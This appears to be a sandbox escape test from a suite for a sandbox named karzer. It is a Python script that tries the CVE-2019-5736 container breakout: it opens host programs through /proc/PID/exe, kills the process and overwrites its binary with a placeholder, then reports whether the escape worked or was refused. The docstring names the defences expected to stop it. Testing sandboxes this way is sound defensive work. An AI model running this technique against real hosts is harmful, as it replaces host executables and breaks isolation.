"""The program gets hold of a program of the host that is running, through
/proc/PID/exe, and writes into its file once it has ended: the next start of it
is the attacker's (CVE-2019-5736). It tries a process of the operator, the
agent that is pid 1 of the cell, and the interpreter that karzer started.

Blocked by the pid namespace and by read-only mounts: the agent was executed
from one that nothing else reaches, and is not dumpable. Where Landlock alone
protects the host, it gives no right to write.
"""
import os
import signal
import sys
import time

WANTS = None
BARE = "user"
NEEDS = ("own_program",)

given = dict(word.split("=", 1) for word in sys.argv[1:])


def open_for_writing(fd):
    for _ in range(50):
        try:
            return os.open(f"/proc/self/fd/{fd}", os.O_WRONLY)
        except OSError as e:
            why = e  # ETXTBSY until it has ended
            time.sleep(0.02)
    raise why


def overwrite(pid):
    fd = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
    if pid not in ("1", "self"):
        os.kill(int(pid), signal.SIGKILL)
        return os.write(open_for_writing(fd), b"#!/attacker")
    return os.open(f"/proc/self/fd/{fd}", os.O_RDWR)


why = []
for pid in (given["own_program"], "1", "self"):
    try:
        overwrite(pid)
        print("ESCAPED: opened for writing what", pid, "runs")
        break
    except OSError as e:
        why.append(e.strerror)
else:
    print("refused:", *why)
